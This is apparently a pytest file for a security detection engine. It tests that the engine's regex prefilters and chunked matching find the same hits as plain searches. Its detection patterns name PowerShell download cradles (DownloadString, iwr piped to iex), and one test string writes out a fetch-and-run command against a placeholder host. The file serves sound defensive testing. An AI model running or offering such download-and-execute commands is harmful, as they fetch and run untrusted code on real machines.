"""Patterns with no literal for RE2's prefilter are matched together in one set, and every text
still gets exactly the hits a plain search with each pattern finds."""

from __future__ import annotations

import bisect
import json
import re
from pathlib import Path

import pytest

from app.detection import rules as rules_module
from app.detection.atoms import file_atomless, find_atomless
from app.detection.rules import CompiledRules, Rule, _match_options, default_rules_dir, load_rules
from app.detection.signals import SIGNALS

CASES = Path(__file__).parents[2] / "data" / "cases"


def plain_hits(compiled: CompiledRules, text: str) -> frozenset[int]:
    data = text.encode("utf-8", "replace")
    return frozenset(i for i in range(len(compiled._regex)) if compiled.regex(i).search(data))


# A pattern with no anchor (^, $, \A, \z; a `[^` class and escaped characters aside) that
# matches a text also matches wherever that text stands in a longer one between newlines: the
# newline is a non-word character, as the ends of a text are to \b and \B.
_ESCAPE = re.compile(r"\\(.)", re.DOTALL)


def unanchored(pattern: str) -> bool:
    bare = _ESCAPE.sub(lambda m: "^" if m.group(1) in "Az" else "", pattern).replace("[^", "[")
    return "^" not in bare and "$" not in bare


WINDOW = 64  # texts searched together


def plain_hits_of_each(compiled: CompiledRules, texts: list[str]) -> list[frozenset[int]]:
    """plain_hits of every text, each pattern searched along all the texts joined by newlines:
    the leftmost match from a text's start says every text before the one it starts in has no
    match, and that one is searched alone (a match may run on into the next text). One call a
    hit, not one a text; anchored patterns are searched in each text."""
    data = [text.encode("utf-8", "replace") for text in texts]
    joined = b"\n".join(data)
    starts = []
    at = 0
    for one in data:
        starts.append(at)
        at += len(one) + 1
    starts.append(at)  # where a text after the last would start
    hits: list[set[int]] = [set() for _ in texts]
    for i in range(len(compiled._regex)):
        regex = compiled.regex(i)
        if not unanchored(compiled._patterns[i]):
            for j, one in enumerate(data):
                if regex.search(one):
                    hits[j].add(i)
            continue
        j = 0
        while j < len(data):
            # a window of texts: a pattern that may run on ([\s\S]*) is not searched to the end
            found = regex.search(joined, starts[j], starts[min(j + WINDOW, len(data))] - 1)
            if found is None:
                j += WINDOW
                continue
            j = bisect.bisect_right(starts, found.start()) - 1  # the text it starts in (or ends)
            if regex.search(data[j]):
                hits[j].add(i)
            j += 1
    return [frozenset(h) for h in hits]


def case_texts() -> list[str]:
    texts = []
    for path in sorted(CASES.glob("*.jsonl")):
        for line in path.read_text(encoding="utf-8").splitlines():
            if line.strip():
                texts.append(json.loads(line)["text"])
    return texts


def test_a_pattern_with_no_literal_of_three_characters_is_atomless() -> None:
    found = find_atomless(
        [r"\\\\[a-z0-9.\-]+\\", r"\d{3}-\d{4}", "downloadstring", r"\biwr\b", "(unclosed"],
        _match_options(),
    )
    assert found == {r"\\\\[a-z0-9.\-]+\\", r"\d{3}-\d{4}"}


@pytest.fixture(scope="module")
def shipped() -> CompiledRules:
    rules, errors = load_rules([default_rules_dir()], SIGNALS)
    assert not errors
    # RE2's prefilters, sets and guard, which the Hyperscan database (when built) would stand
    # in for on ASCII text: test_hsfilter.py holds the database to what these find
    return CompiledRules(rules, hyperscan=False)


def test_no_shipped_pattern_is_left_behind_a_filter_that_passes_every_text(
    shipped: CompiledRules,
) -> None:
    assert len(shipped._always_ids) > 10  # in the set
    for matcher, _ in shipped._filters:
        assert not matcher.Match(b"", True)  # a filter passing a pattern on no atom: none


def test_the_shipped_rules_hit_as_plain_searches_do_on_every_case(shipped: CompiledRules) -> None:
    texts = case_texts()
    assert len(texts) > 1000
    # over SHORT and over a chunk: the other path. One text a line: chunks overlap by OVERLAP,
    # so a match longer than that across a chunk's edge (a `[^\n]*` over a 100 KiB line made
    # of 1,500 texts) is the chunking's documented limit, not what this test is about
    long = "\n".join(texts[:1500])
    assert len(long.encode()) > rules_module.CHUNK
    # the plain searches of all the texts at once (~60 s of CPU one text at a time), held to
    # one search per pattern per text on every 97th text; each text once (a quarter of the
    # cases repeat another's text for another target)
    unique = list(dict.fromkeys(texts))
    expected = dict(zip(unique, plain_hits_of_each(shipped, unique), strict=True))
    for j in range(0, len(texts), 97):
        assert expected[texts[j]] == plain_hits(shipped, texts[j]), texts[j][:200]
    assert sum(map(len, expected.values())) > 10 * len(unique)  # ~15 patterns a text occur
    for text, plain in expected.items():
        assert shipped.hits(text)[0] == plain, text[:200]
    for text in (long, ""):
        assert shipped.hits(text)[0] == plain_hits(shipped, text), text[:200]


def test_a_wrong_reading_of_the_patterns_changes_no_hit(monkeypatch: pytest.MonkeyPatch) -> None:
    patterns = [r"\\\\[a-z0-9.\-]+\\", r"\d{3}-\d{4}", "downloadstring", r"\biwr\b"]
    rules = [Rule(f"R{i}", "t", "e", "T1204", 10, any=(p,)) for i, p in enumerate(patterns)]
    # one with no atom is missed, one with atoms is called atomless
    monkeypatch.setattr(rules_module, "atomless", lambda *_: {patterns[1], patterns[2]})
    compiled = CompiledRules(rules)
    for text in ["\\\\host\\share", "555-0100", "x.DownloadString(u)", "iwr u", "none", ""]:
        for repeat in (1, 500):  # short, and long
            subject = " ".join([text] * repeat)
            assert compiled.hits(subject)[0] == plain_hits(compiled, subject), subject[:40]


def test_a_rule_files_kept_reading_is_what_the_patterns_say(shipped: CompiledRules) -> None:
    path = default_rules_dir() / "10-windows.yaml"
    mine = sorted(
        {
            p
            for r in shipped.pattern_rules
            if r.source.rpartition(":")[0] == str(path)
            for p in (*r.all, *r.any, *r.none)
        }
    )
    kept = file_atomless(path, mine, _match_options())
    assert set(kept) >= set(mine)
    assert {p for p in mine if kept[p]} == find_atomless(mine, _match_options())
    assert any(kept.values()) and not all(kept.values())


def test_a_rule_matches_the_first_layer_that_has_all_its_patterns_and_none_of_its_none() -> None:
    rules = [
        Rule("R", "t", "e", "T1204", 10, all=("alpha",), any=("beta", "gamma"), none=("nope",))
    ]
    compiled = CompiledRules(rules)
    rule = rules[0]
    layers = ["alpha beta nope", "alpha only", "gamma alpha", "alpha beta"]
    hits = [compiled.hits(text)[0] for text in layers]
    assert compiled.first_match(rule, hits) == 2  # the first is vetoed, the second lacks any
    assert compiled.could_match(rule, frozenset().union(*hits))
    assert not compiled.could_match(rule, frozenset().union(*hits[:2]) - hits[0])
    assert compiled.first_match(rule, hits[:2]) == -1


def test_a_long_chunk_finds_the_patterns_with_no_atom_one_at_a_time(
    shipped: CompiledRules,
) -> None:
    long = " ".join(case_texts()[:1500])
    chunk = long.encode("utf-8")[: rules_module.CHUNK]
    assert len(chunk) > rules_module.GUARD_MAX  # the one-at-a-time path
    members = {i for _, m in shipped._always_sets for i in m}
    expected = {i for i in members if shipped.regex(i).search(chunk)}
    assert expected  # the barrier: some of them do occur in it
    found, finished = shipped._chunk_hits(chunk, frozenset())
    assert finished
    assert members & set(found) == expected
    assert shipped._always_alone is not None  # made for it, kept for the next long chunk
    assert sorted(i for _, i in shipped._always_alone) == sorted(members)


def test_the_patterns_with_an_atom_are_screened_by_their_literals(shipped: CompiledRules) -> None:
    # one literal pass for nearly all of them, not four RE2 prefilters; the few whose literals
    # literals.py cannot read stay behind a prefilter (and a short text's hits are exact: above)
    assert len(shipped._screened) > 0.9 * len(shipped._common)
    assert sum(len(ids) for _, ids in shipped._filters) == len(shipped._common) - len(
        shipped._screened
    )


def test_the_first_long_chunk_makes_its_prefilters_off_the_texts_clock() -> None:
    from app.detection.clock import budget_clock

    rules, errors = load_rules([default_rules_dir()], SIGNALS)
    assert not errors
    fresh = CompiledRules(rules, hyperscan=False)  # RE2's way (Hyperscan's makes nothing)
    assert fresh._long is None  # a process that never meets a long text never makes them
    long = " ".join(case_texts()[:1500])[:12000]  # one chunk, over GUARD_MAX
    assert rules_module.GUARD_MAX < len(long.encode()) <= rules_module.CHUNK
    # making the prefilters takes ~0.14 s of CPU, reading this text in a fresh process ~0.05:
    # in a budget of 0.1 s it is read whole only if the making is not charged to it
    found, finished = fresh.hits(long, deadline=budget_clock() + 0.1, timed=True)
    assert fresh._long is not None
    assert finished
    assert found == plain_hits(fresh, long)


def test_a_long_chunk_whose_prefilters_cannot_be_made_is_matched_exactly_all_the_same(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    rules = [
        Rule("R0", "t", "e", "T1204", 10, any=(r"downloadstring\s*\(",)),
        Rule("R1", "t", "e", "T1204", 10, all=(r"\biwr\b", r"\|\s*iex")),
        Rule("R2", "t", "e", "T1204", 10, any=(r"\d{3}-\d{4}",)),  # no atom: in a set
    ]
    compiled = CompiledRules(rules)
    assert compiled._screened  # those with literals are behind the guard

    def refuse(_ids: tuple[int, ...]) -> None:
        raise rules_module.RuleLoadError([rules_module.RuleError("x.yaml", 1, "too large")])

    monkeypatch.setattr(compiled, "_filter", refuse)
    body = "iwr https://example.invalid/a | iex; x.DownloadString (u) 555-0100 "
    for text in [body + "a " * 5000, "a " * 5000, "a " * 5000 + "iwr u | iex"]:
        assert len(text) > rules_module.GUARD_MAX
        found, finished = compiled.hits(text)
        assert finished
        assert found == plain_hits(compiled, text), text[-40:]
    assert compiled._long == [] and compiled._long_failed
    assert compiled.hits(body + "a " * 5000)[0] == {0, 1, 2, 3}
